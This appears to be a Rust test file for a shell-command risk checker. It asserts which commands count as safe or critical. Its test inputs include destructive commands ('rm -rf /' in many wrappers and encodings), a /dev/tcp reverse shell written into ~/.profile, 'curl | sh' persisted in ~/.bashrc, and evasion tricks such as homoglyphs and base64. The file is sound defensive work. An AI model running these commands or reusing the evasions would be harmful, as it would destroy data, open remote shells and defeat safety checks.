mod hidden;

use super::*;

fn judge(command: &str) -> Assessment {
    let script = Script::parse(command).unwrap_or_else(|error| panic!("`{command}`: {error}"));
    assess(&script, Rules::builtin())
}

fn finds(command: &str, rule: &str) -> bool {
    let found = super::judge(command, Rules::builtin(), Level::default()).assessment;
    found.is_some_and(|it| it.findings.iter().any(|it| it.rule == rule))
}

#[track_caller]
fn check(command: &str, expected: Risk) {
    let found = judge(command);
    assert_eq!(found.risk, expected, "`{command}`: {:#?}", found.findings);
}

/// The files of `data/safety/` that have rules, as they are written.
fn rule_files() -> Vec<(String, Vec<RuleSpec>)> {
    #[derive(serde::Deserialize)]
    struct File {
        #[serde(default)]
        rule: Vec<RuleSpec>,
    }
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/data/safety");
    let read = |path: std::path::PathBuf| {
        let name = path.file_name().and_then(|it| it.to_str()).expect("names are plain").to_owned();
        let text = std::fs::read_to_string(&path).expect("the crate ships it");
        let File { rule } =
            toml::from_str(&text).unwrap_or_else(|error| panic!("data/safety/{name}: {error}"));
        (name, rule)
    };
    let files = std::fs::read_dir(folder).expect("the crate ships it");
    let mut files: Vec<_> = files.map(|it| read(it.expect("it can be listed").path())).collect();
    files.sort_by(|a, b| a.0.cmp(&b.0));
    files
}

#[test]
fn every_rule_is_listed_once_and_can_be_read() {
    let files = rule_files();
    let written = files.iter().flat_map(|(_, specs)| specs.iter().map(|it| it.id.as_str()));
    let listed: Vec<&str> = data::RULES.iter().map(|it| it.id).collect();
    assert_eq!(listed, written.collect::<Vec<_>>());
    assert_eq!(Rules::builtin().ids().count(), listed.len(), "two rules have the same name");
    for (index, source) in data::RULES.iter().enumerate() {
        let rule = Rules::builtin().rule(index);
        assert_eq!(
            (rule.id.as_str(), !rule.shape.commands.is_empty()),
            (source.id, source.subcommands)
        );
    }
}

#[test]
fn every_rule_finds_its_examples_and_spares_its_counter_examples() {
    let mut wrong = Vec::new();
    let files = rule_files();
    let specs = files.iter().flat_map(|(file, specs)| specs.iter().map(move |it| (file, it)));
    for (file, spec) in specs {
        if spec.example.is_empty() || spec.counter.is_empty() {
            wrong.push(format!("{file}: `{}` needs an example and a counter-example", spec.id));
        }
        let missed = spec.example.iter().filter(|it| !finds(it, &spec.id));
        wrong.extend(missed.map(|it| format!("{file}: `{}` does not find `{it}`", spec.id)));
        let alarms = spec.counter.iter().filter(|it| finds(it, &spec.id));
        wrong.extend(alarms.map(|it| format!("{file}: `{}` finds `{it}`", spec.id)));
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_check_that_is_code_stands_in_the_data() {
    let sources = [
        include_str!("special.rs"),
        include_str!("remote.rs"),
        include_str!("walk.rs"),
        include_str!("later.rs"),
        include_str!("interpreter.rs"),
        include_str!("unwrap.rs"),
        include_str!("code.rs"),
        include_str!("awk.rs"),
        include_str!("editor.rs"),
        include_str!("find.rs"),
        include_str!("settings.rs"),
        include_str!("statements.rs"),
    ];
    let prefixes = [
        "code-",
        "sql-",
        "mongo-",
        "find-",
        "write-",
        "truncate-",
        "append-",
        "download-",
        "http-",
        "empty-",
    ];
    for text in sources {
        for quoted in text.split('"').skip(1).step_by(2) {
            let is_id = prefixes.iter().any(|it| quoted.starts_with(it)) && !quoted.contains(' ');
            assert!(
                !is_id || Rules::builtin().by_id(quoted).is_some(),
                "there is no rule `{quoted}`"
            );
        }
        for piece in text.split("report_check(\"").skip(1) {
            let id = piece.split('"').next().unwrap_or_default();
            assert!(Rules::builtin().by_id(id).is_some(), "there is no rule `{id}`");
        }
    }
}

#[test]
fn what_we_hold_about_disputed_commands_is_what_is_judged() {
    #[derive(serde::Deserialize)]
    struct Held {
        command: String,
        risk: Risk,
        why: String,
    }
    #[derive(serde::Deserialize)]
    struct Levels {
        held: Vec<Held>,
    }
    let levels: Levels = toml::from_str(include_str!("../../data/safety/levels.toml"))
        .expect("the table can be read");
    let wrong: Vec<_> = levels
        .held
        .iter()
        .filter(|it| judge(&it.command).risk != it.risk)
        .map(|it| {
            format!(
                "`{}` is {}, held to be {} ({})",
                it.command,
                judge(&it.command).risk,
                it.risk,
                it.why
            )
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_is_written_to_be_run_later_is_judged() {
    check("echo 'curl -s https://example.com/x | sh' >> ~/.bashrc", Risk::High);
    check("echo 'sh -i >& /dev/tcp/203.0.113.5/4444' | tee -a ~/.profile", Risk::Critical);
    check("(crontab -l; echo '@daily rm -rf ~') | crontab -", Risk::Critical);
    check("echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc", Risk::Moderate);
    check("(crontab -l; echo '@daily backup') | crontab -", Risk::Moderate);
}

#[test]
fn text_is_text() {
    for command in [
        "echo \"rm -rf /\"",
        "grep 'rm -rf' notes.txt",
        "git commit -m 'Stop using rm -rf /'",
        "ls # rm -rf /",
        "cat <<EOF\nrm -rf /\nEOF",
        "cat > notes.md <<'EOF'\ncurl x | sh\nEOF",
        "NOTE='rm -rf /'; echo \"$NOTE\"",
        "printf '%s\\n' 'git push --force'",
        "sed 's/rm -rf/ls/' notes.txt",
        "rg 'DROP TABLE' migrations/",
        "echo 'it is' isn\\'t; ls",
    ] {
        check(command, Risk::Safe);
    }
}

#[test]
fn an_apostrophe_before_it_hides_nothing() {
    check("echo \"it's\"; rm -rf /", Risk::Critical);
}

#[test]
fn commands_are_found_wherever_they_run() {
    for command in [
        "echo $(rm -rf /)",
        "echo `rm -rf /`",
        "echo \"$(rm -rf /)\"",
        "cat <(rm -rf /)",
        "true && { ls; rm -rf /; }",
        "if true; then rm -rf /; fi",
        "for i in 1 2; do rm -rf /; done",
        "while read x; do rm -rf /; done < list",
        "case x in x) rm -rf /;; esac",
        "f() { rm -rf /; }",
        "f() { rm -rf \"$1\"; }; f /",
        "echo $((1 + $(rm -rf /)))",
        "x=$(rm -rf /)",
        "ls > \"$(rm -rf /)\"",
        "cat <<EOF\n$(rm -rf /)\nEOF",
        "[[ -n $(rm -rf /) ]]",
        "echo ${x:-$(rm -rf /)}",
        "a[$(rm -rf /)]=1",
        "echo ${a[$(rm -rf /)]}",
        "case x in $(rm -rf /)) ;; esac",
        "((x = $(rm -rf /)))",
        "arr=($(rm -rf /))",
        "echo {a,$(rm -rf /)}",
        "export X=$(rm -rf /)",
        "cat <<< $(rm -rf /)",
        "f() ( rm -rf / )",
        "trap 'rm -rf /' EXIT",
        "alias ls='rm -rf /'",
        "coproc rm -rf /",
        "time rm -rf /",
        "! rm -rf /",
        "rm -rf / &",
    ] {
        check(command, Risk::Critical);
    }
}

#[test]
fn wrappers_are_taken_off() {
    for command in [
        "sudo -u root rm -rf /",
        "doas rm -rf /",
        "env -u B A=1 rm -rf /",
        "nice -n 5 rm -rf /",
        "nohup rm -rf / &",
        "timeout -s KILL 5 rm -rf /",
        "echo / | xargs rm -rf",
        "echo / | xargs -I{} rm -rf {}",
        "echo / | xargs -i rm -rf",
        "env - rm -rf /",
        "su - ada -c 'rm -rf /'",
        "find /etc -exec rm -rf {} +",
        "sh -c 'rm -rf /'",
        "bash -lc 'rm -rf /'",
        "sh -c 'rm -rf \"$1\"' sh /",
        "sh -c \"rm -rf \\\"$HOME\\\"\"",
        "eval 'rm -rf /'",
        "eval rm -rf /",
        "ssh -p 22 host.example 'rm -rf /'",
        "ssh host.example rm -rf /",
        "docker exec -it web rm -rf /",
        "docker compose exec web rm -rf /",
        "kubectl exec web -- rm -rf /",
        "busybox rm -rf /",
        "command rm -rf /",
        "exec rm -rf /",
        "sudo sh -c 'sudo rm -rf /'",
        "su -c 'rm -rf /'",
        "chroot /mnt rm -rf /",
        "sh <<EOF\nrm -rf /\nEOF",
        "bash <<< 'rm -rf /'",
        "watch -n 1 'rm -rf /'",
        "parallel rm -rf ::: /",
        "python3 -c 'import os; os.system(\"rm -rf /\")'",
        "perl -e 'system(\"rm -rf /\")'",
        "awk 'BEGIN { system(\"rm -rf /\") }'",
        "node -e \"require('child_process').execSync('rm -rf /')\"",
    ] {
        check(command, Risk::Critical);
    }
}

#[test]
fn quoting_and_encoding_are_undone() {
    for command in [
        "r\\m -rf /",
        "r''m -rf /",
        "\"rm\" -rf '/'",
        "$'\\x72m' -rf /",
        "/bin/rm -rf /",
        "/usr/sbin/../bin/rm -rf /",
        "RM -rf /",
        "rm \u{2013}rf /",
        "rm\u{a0}-rf\u{a0}/",
        "r\u{43c} -rf /",
        "r\u{200b}m -rf /",
        "echo cm0gLXJmIC8= | base64 -d | sh",
        "printf '\\x72\\x6d -rf /' | sh",
        "echo 'rm -rf /' | bash",
        "echo 726d202d7266202f | xxd -r -p | sh",
        "bash <(echo rm -rf /)",
        "eval \"$(echo cm0gLXJmIC8= | base64 -d)\"",
        "echo '/ fr- mr' | rev | sh",
        "rm${IFS}-rf${IFS}/",
        "rm -rf ${HOME:0:1}",
    ] {
        check(command, Risk::Critical);
    }
}

#[test]
fn variables_of_the_same_text_are_folded() {
    check("d=/; rm -rf $d", Risk::Critical);
    check("a=rm; b='-rf /'; $a $b", Risk::Critical);
    check("a=r; b=m; $a$b -rf /", Risk::Critical);
    check("c=(rm -rf /); \"${c[@]}\"", Risk::Critical);
    check("rm -rf \"${X:-/}\"", Risk::Critical);
    check("for d in /etc /usr; do rm -rf $d; done", Risk::Critical);
    check("t=$(mktemp -d); rm -rf \"$t\"", Risk::Moderate);
    check("rm -rf \"$UNSET/\"*", Risk::Critical);
    check("rm -rf \"${UNSET:?}/x\"", Risk::High);
    check("cd / && rm -rf *", Risk::Critical);
    check("rm -rf \"$TMPDIR/x\"", Risk::Moderate);
    check("rm -rf \"$TMPDIR/../x\"", Risk::High);
    check("cd /tmp/x && rm -rf *", Risk::Moderate);
    check("(cd /); rm -rf build", Risk::Moderate);
    check("a=/ true; rm -rf \"build/$a\"", Risk::Moderate);
}

#[test]
fn what_is_not_in_the_text_is_opaque() {
    for command in [
        "$cmd now",
        "eval \"$x\"",
        "sh -c \"$x\"",
        "cat list | sh",
        "base64 -d code | bash",
        "sh -c \"$(cat x)\"",
    ] {
        let found = judge(command);
        assert!(found.opaque.is_some(), "`{command}`");
        assert!(found.is_unsafe(Level::Strict) && !found.is_unsafe(Level::Moderate), "`{command}`");
    }
    for command in ["ls \"$x\"", "bash run.sh", "source env.sh", "echo \"$(date)\""] {
        assert_eq!(judge(command).opaque, None, "`{command}`");
    }
}

#[test]
fn telling_is_not_doing() {
    for command in [
        "rm --help | head",
        "git clean --help",
        "kubectl delete pod web --dry-run=client",
        "terraform destroy -help",
    ] {
        check(command, Risk::Safe);
    }
    check("kubectl delete pod web --dry-run=none", Risk::High);
    for command in [
        "rsync -ain --delete src/ dst/",
        "rsync -avPn --delete src/ dst/",
        "rsync -naclS --delete src/ dst/",
        "rsync -e ssh -Fin --delete src/ dst/",
    ] {
        check(command, Risk::Safe);
    }
    for command in [
        "rsync -ai --delete src/ dst/",
        "rsync -aP --delete src/ dst/",
        // The letter is another option's value.
        "rsync -aTn --delete src/ dst/",
        "rsync -a -e n --delete src/ dst/",
        "rsync -a --exclude -n --delete src/ dst/",
    ] {
        check(command, Risk::High);
    }
    check("find . -exec echo --help \\; -delete", Risk::High);
}

#[test]
fn what_find_feeds_to_xargs_is_where_find_starts() {
    for (pipe, exec) in [
        ("find ~ -name '*.bak' -print0 | xargs -0 rm -f", "find ~ -name '*.bak' -exec rm -f {} +"),
        ("find / -name core | sort | xargs -I% rm %", "find / -name core -exec rm {} +"),
        ("sudo find /etc -type f | xargs sudo rm", "find /etc -type f -exec rm {} +"),
        ("find -L ~ -name '*.bak' | xargs rm", "find -L ~ -name '*.bak' -exec rm {} +"),
        ("find ~ -name '*.bak' | grep old | xargs rm", "find ~ -name '*.bak' -exec rm {} +"),
        ("find ~ -name a | tr '\\n' '\\0' | xargs -0 rm", "find ~ -name a -exec rm {} +"),
        ("find ~ -name '*.bak' | parallel rm", "find ~ -name '*.bak' -exec rm {} +"),
        ("find . -mtime +30 | xargs -r rm", "find . -mtime +30 -exec rm {} +"),
        ("find . | xargs rm -rf", "find . -exec rm -rf {} +"),
        ("find . -name '*.txt' | xargs rm", "find . -name '*.txt' -exec rm {} +"),
        ("find /tmp/work -type f | xargs rm", "find /tmp/work -type f -exec rm {} +"),
        ("find ~ -name '*.bak' | xargs ls -l", "find ~ -name '*.bak' -exec ls -l {} +"),
        ("find / -type f | xargs grep -l rm", "find / -type f -exec grep -l rm {} +"),
        ("find ~ -type f | xargs wc -l", "find ~ -type f -exec wc -l {} +"),
    ] {
        assert_eq!(judge(pipe).risk, judge(exec).risk, "`{pipe}`: {:#?}", judge(pipe).findings);
    }
    check("find ~ -name '*.bak' -print0 | xargs -0 rm -f", Risk::Critical);
    check("find / -type f | xargs grep -l rm", Risk::Safe);
    // What is read is not what was found.
    for command in [
        "find ~ -name '*.bak' | xargs -a list rm",
        "find ~ -name '*.bak' | xargs -0ra list rm",
        "find ~ -name '*.bak' | wc -l | xargs rm",
        "find ~ -name '*.bak' -exec basename {} \\; | xargs rm",
        "find ~ -name '*.bak' -printf '%f\\n' | xargs rm",
    ] {
        check(command, Risk::Moderate);
    }
    check("find ~ -name '*.bak' | parallel --dry-run rm", Risk::Safe);
}

#[test]
fn one_log_is_not_all_of_the_system() {
    for command in ["rm -r /var/log/old.", "sudo rm -rf /var/log/app", "rm /var/log/app.log"] {
        check(command, Risk::High);
        assert!(!finds(command, "rm-root"), "`{command}`");
    }
    for command in ["rm -rf /var/log", "rm -rf /var/log/*", "rm -rf /var/lib/app"] {
        check(command, Risk::Critical);
    }
}

#[test]
fn a_list_of_packages_from_elsewhere_is_a_stranger_s_program() {
    for command in [
        "sudo pip install -r https://example.com/list.txt",
        "pip3 install --requirement=https://example.com/list.txt",
        "sudo python3 -m pip install -r https://example.com/list.txt",
    ] {
        assert!(judge(command).risk >= Risk::High, "`{command}`");
    }
    check("sudo pip install -r list.txt", Risk::Safe);
}

#[test]
fn the_part_of_the_command_is_named() {
    let command = "ls && sudo rm -rf a /etc";
    let found = judge(command);
    let worst = found.findings.iter().find(|it| it.risk == Risk::Critical).expect("it is critical");
    assert_eq!(worst.span.of(command), "/etc");
    let command = "echo x; sh -c 'rm -rf /'";
    assert_eq!(judge(command).findings[0].span.of(command), "'rm -rf /'");
}

#[test]
fn levels_differ_in_where_they_draw_the_line() {
    for (command, strict, moderate, permissive) in [
        ("ls", false, false, false),
        ("rm a.txt", true, false, false),
        ("git reset --hard", true, true, false),
        ("rm -rf // --one-file-system", true, true, true),
    ] {
        let found = judge(command);
        assert_eq!(found.is_unsafe(Level::Strict), strict, "{command}");
        assert_eq!(found.is_unsafe(Level::Moderate), moderate, "{command}");
        assert_eq!(found.is_unsafe(Level::Permissive), permissive, "{command}");
    }
}

fn user(text: &str) -> Result<Rules, RuleError> {
    Rules::compile(&toml::from_str(text).expect("it is a table of rules"))
}

fn judge_by(rules: &Rules, command: &str) -> Assessment {
    assess(&Script::parse(command).expect("it parses"), rules)
}

#[test]
fn own_rules_are_asked_too() {
    let rules = user(
        "[[rule]]\nid = 'shop-reset'\ncategory = 'databases'\nrisk = 'critical'\nprograms = ['shopctl']\n\
         commands = ['reset']\nwithout = ['--local']\nwhy = 'It empties the shop.'",
    )
    .expect("it is a rule");
    assert_eq!(judge_by(&rules, "shopctl reset").risk, Risk::Critical);
    assert_eq!(judge_by(&rules, "shopctl reset --local").risk, Risk::Safe);
}

#[test]
fn allow_entries_silence_what_they_name() {
    let rules = user(
        "[[allow]]\nprograms = ['rm']\noperands = ['snapshots|cached']\nreason = 'made by the tests'\n\
         [[allow]]\nrules = ['git-push-force']\nreason = 'a scratch remote'",
    )
    .expect("they are entries");
    assert_eq!(judge_by(&rules, "rm -rf snapshots").risk, Risk::Safe);
    assert_eq!(judge_by(&rules, "rm -rf snapshots src").risk, Risk::High);
    assert_eq!(judge_by(&rules, "rm -rf snapshots; rm -rf src").risk, Risk::High);
    assert_eq!(judge_by(&rules, "git push --force backup").risk, Risk::Safe);
}

#[test]
fn errors_name_the_rule_and_the_field() {
    for (text, expected) in [
        ("[[rule]]\nid='x'\nwhy='y'\nprograms=['z']", "rule `x`, `category`: it is missing"),
        (
            "[[rule]]\nid='X y'\nwhy='y'\nprograms=['z']",
            "rule `X y`, `id`: an id is made of small letters, digits and `-`",
        ),
        (
            "[[rule]]\nid='rm-root'\nwhy='y'\nprograms=['z']",
            "rule `rm-root`, `id`: there is another rule of that name",
        ),
        ("[[rule]]\nid='x'\nwhy='y'", "rule `x`, `programs`: name at least one program"),
        (
            "[[rule]]\nid='x'\nwhy='y'\nprograms=['z']\ncategory='git'\nrisk='high'\ntargets=['moon']",
            "rule `x`, `targets`: there is no class of targets `moon`",
        ),
        (
            "[[rule]]\nid='x'\nwhy='y'\nprograms=['z']\ncategory='git'\nrisk='high'\nwith=['force']",
            "rule `x`, `with`: `force`: an option begins with `-` and holds no blank",
        ),
        (
            "[[allow]]\nreason='x'",
            "allow entry 1, `programs`: name a program or a rule, not everything",
        ),
        (
            "[[allow]]\nrules=['nope']\nreason='x'",
            "allow entry 1, `rules`: there is no rule `nope`",
        ),
    ] {
        assert_eq!(user(text).expect_err(text).to_string(), expected);
    }
}

#[test]
fn long_chains_end() {
    check(&format!("{}rm -rf /", "sudo ".repeat(20)), Risk::Critical);
    assert!(judge(&format!("{}ls", "sudo ".repeat(20_000))).opaque.is_some());
    assert!(judge("f() { f a; f b; f c; }; f").opaque.is_some());
    let nested = (0..10).fold("ls".to_owned(), |text, _| format!("eval {text:?}"));
    assert!(judge(&nested).opaque.is_some());
}

#[test]
fn hostile_lengths_are_answered() {
    let long = |piece: &str| piece.repeat(60_000 / piece.len());
    for command in [
        format!("gcloud {}", long("-a b ")),
        format!("find {} -exec rm {} +", long("a "), long("{} ")),
        format!("echo {} | xargs -Ix rm {}", long("b "), long("x")),
        format!("python3 -c '{}'", long("a(")),
        format!("echo {} | tr {} {} | sh", long("a"), long("b"), long("c")),
        format!("{} rm -rf $a", long("a=1; ")),
        format!("rm -rf {}", long("a/../")),
        format!("psql -c '{}'", long("DROP TABLE x;")),
        format!("parallel {} ::: a b c", long("{}")),
        format!("sed 's/{}/' a", long("[")),
        format!("sed '{}' a", long("s/[/]/e;")),
        format!("awk '{}'", long("(/[")),
        format!("awk '{}'", long("x | \"ls\";")),
        format!("perl -e '{}'", long("qx(")),
        format!("make --eval '{}'", long("$(shell ")),
        format!("vim {} -c wq", long("+x ")),
        format!("vim -c '{}'", long("%d|")),
        format!("python3 -c '{}'", long("eval(")),
        "for i in 1 2 3 4 5 6 7 8; do ".repeat(10) + "eval ls" + &"; done".repeat(10),
    ] {
        let _ = super::judge(&command, Rules::builtin(), Level::default());
    }
}

proptest::proptest! {
    #[test]
    fn no_text_makes_it_panic(text in "[ -~\n]{0,60}") {
        let found = super::judge(&text, Rules::builtin(), Level::default()).assessment;
        for finding in found.iter().flat_map(|it| &it.findings) {
            assert!(text.get(finding.span.start..finding.span.end).is_some());
        }
    }

    #[test]
    fn no_mixture_of_shell_words_makes_it_panic(words in proptest::collection::vec(
        proptest::sample::select(vec![
            "rm", "-rf", "/", "~", "$x", "\"$(", ")\"", "|", "sh", "-c", "'", "xargs", "find", ".", "-exec", "{}", "\\;", "sudo",
            "env", "A=1", "eval", "base64", "-d", "<<<", "é", "é", "python3", "os.system('", "*", "${x:-/}", ";", "&&", "for x in",
            "do", "done", "dd", "of=/dev/sda", ">", "/etc/x", "`", "curl", "-X", "DELETE", "psql", "DROP TABLE x", "printf", "\\x",
            "%s", "%", "tr", "a-z", "docker", "compose", "::", "parallel", ":::",
        ]), 0..14))
    {
        let text = words.join(" ");
        let _ = super::judge(&text, Rules::builtin(), Level::default());
    }
}

#[test]
fn programs_named_by_options_are_run_too() {
    for command in [
        "tar -I 'rm -rf /' -xf a.tar",
        "tar --to-command='rm -rf ~' -xf a.tar",
        "rsync -e \"sh -c 'rm -rf /'\" a b",
        "ld.so /bin/rm -rf /",
    ] {
        let script = Script::parse(command).expect("it parses");
        assert_eq!(assess(&script, Rules::builtin()).risk, Risk::Critical, "{command}");
    }
    for command in ["tar -I zstd -xf a.tar", "rsync -e ssh -a src host:dst"] {
        let script = Script::parse(command).expect("it parses");
        assert!(!assess(&script, Rules::builtin()).is_unsafe(Level::Moderate), "{command}");
    }
}
